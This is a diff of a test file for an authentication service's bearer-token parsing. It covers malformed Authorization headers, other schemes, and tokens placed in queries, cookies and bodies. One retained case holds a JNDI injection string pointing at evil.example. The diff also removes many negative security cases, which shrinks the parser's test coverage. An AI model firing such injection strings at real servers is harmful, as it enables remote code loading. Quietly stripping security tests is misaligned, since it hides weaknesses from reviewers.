@@ -30,27 +30,8 @@ CREDENTIALS: list[tuple[str, Callable[[str], Headers], tuple[int, str]]] = [
     ("two headers, Basic then Bearer", header("Basic YTpi", "Bearer {}"), TWO),
     ("two headers, empty then Bearer", header("", "Bearer {}"), TWO),
     ("two names of different case", lambda t: [("authorization", f"Bearer {t}"), ("AUTHORIZATION", "Bearer b")], TWO),
-    ("two tokens by comma", header("Bearer {}, Bearer {}"), TWO),
-    ("two tokens by space", header("Bearer {} {}"), TWO),
-    ("two schemes", header("Basic YTpi, Bearer {}"), TWO),
-    ("scheme twice", header("Bearer Bearer {}"), TWO),
-    ("scheme alone", header("Bearer"), TWO),
     ("scheme and spaces", header("Bearer     "), TWO),
-    ("empty", header(""), TWO),
-    ("commas", header(",, ,"), TWO),
-    ("comma before", header(",Bearer {}"), TWO),
-    ("comma after", header("Bearer {},"), TWO),
-    ("semicolon after", header("Bearer {};"), TWO),
-    ("tab between", header("Bearer\t{}"), TWO),
-    ("colon between", header("Bearer: {}"), TWO),
-    ("equals between", header("Bearer={}"), TWO),
-    ("quoted", header('Bearer "{}"'), TWO),
     ("single quoted", header("Bearer '{}'"), TWO),
-    ("as a parameter", header("Bearer token={}"), TWO),
-    ("in brackets", header("Bearer <{}>"), TWO),
-    ("no-break space between", header("Bearer\xa0{}"), TWO),
-    ("non-ASCII scheme", header("Be\xe4rer {}"), TWO),
-    ("non-ASCII token", header("Bearer {}\xe9"), TWO),
     ("UTF-8 look-alike scheme", header("Веarer {}".encode().decode("latin-1")), TWO),
     ("UTF-8 space before the token", header("Bearer \xe2\x80\x8b{}"), TWO),
     ("percent-encoded space", header("Bearer%20{}"), NONE),
@@ -63,29 +44,19 @@ CREDENTIALS: list[tuple[str, Callable[[str], Headers], tuple[int, str]]] = [
     ("folded line", header("Bearer\r\n {}"), TWO),
     ("form feed between", header("Bearer\x0c{}"), TWO),
     ("template", header("Bearer ${jndi:ldap://evil.example/a}"), TWO),
-    ("scheme Basic", header("Basic YWxpY2U6cGFzc3dvcmQ="), NONE),
     ("scheme Basic with the token", header("Basic {}"), NONE),
     ("scheme Digest", header('Digest username="alice", realm="gatepost", nonce="", uri="/", response=""'), NONE),
-    ("scheme Negotiate", header("Negotiate YIIJ"), NONE),
     ("scheme NTLM", header("NTLM TlRMTVNTUAAB"), NONE),
     ("scheme DPoP", header("DPoP {}"), NONE),
     ("scheme MAC", header('MAC id="1", nonce="1", mac="1"'), NONE),
-    ("scheme JWT", header("JWT {}"), NONE),
-    ("scheme Token", header("Token {}"), NONE),
     ("scheme Bearer2", header("Bearer2 {}"), NONE),
-    ("no scheme", header("{}"), NONE),
     ("no header", header(), NONE),
-    ("Proxy-Authorization", field("Proxy-Authorization", "Bearer {}"), NONE),
-    ("X-Authorization", field("X-Authorization", "Bearer {}"), NONE),
     ("X-Forwarded-Authorization", field("X-Forwarded-Authorization", "Bearer {}"), NONE),
-    ("X-Gatepost-Bearer", field("X-Gatepost-Bearer", "{}"), NONE),
     ("X-Access-Token", field("X-Access-Token", "{}"), NONE),
     ("name with underscore", field("HTTP_AUTHORIZATION", "Bearer {}"), NONE),
     ("X-User-Id", field("X-User-Id", "3"), NONE),
     ("X-Remote-User", field("X-Remote-User", "carol@example.com"), NONE),
     ("Remote-User", field("Remote-User", "carol@example.com"), NONE),
-    ("cookie access_token", field("Cookie", "access_token={}"), NONE),
-    ("cookie access_token_cookie", field("Cookie", "access_token_cookie={}"), NONE),
     ("cookie session", field("Cookie", "session={}"), NONE),
     ("cookie Authorization", field("Cookie", "Authorization=Bearer {}"), NONE),
     ("From", field("From", "carol@example.com"), NONE),
@@ -111,7 +82,7 @@ def _in_query(name: str, target: Target) -> bytes:
     return message("GET", f"{API}/auth/me?{name}={target.alice.access}")
 
 
-QUERIES = ("access_token", "token", "jwt", "bearer_token", "Authorization", "auth", "api_key")
+QUERIES = ("bearer_token", "Authorization", "auth", "api_key")
 
 
 @table([Case(name, 401, "authentication_required", partial(_in_query, name)) for name in QUERIES])
@@ -132,13 +103,4 @@ BODIES = {
 
 @table([Case(name, row[2], row[3], partial(_in_body, row[0], row[1])) for name, row in BODIES.items()])
 def test_a_token_in_a_body_is_none(target: Target, case: Case) -> None:
-    check(target, case)
-
-
-def _taken(form: str, target: Target) -> bytes:
-    return message("GET", f"{API}/auth/me", {"Authorization": form.replace("{}", target.alice.access)})
-
-
-@table([Case(form, 200, "", partial(_taken, form)) for form in ("bearer {}", "BEARER {}", "Bearer   {}")])
-def test_the_scheme_has_any_case(target: Target, case: Case) -> None:
     check(target, case)
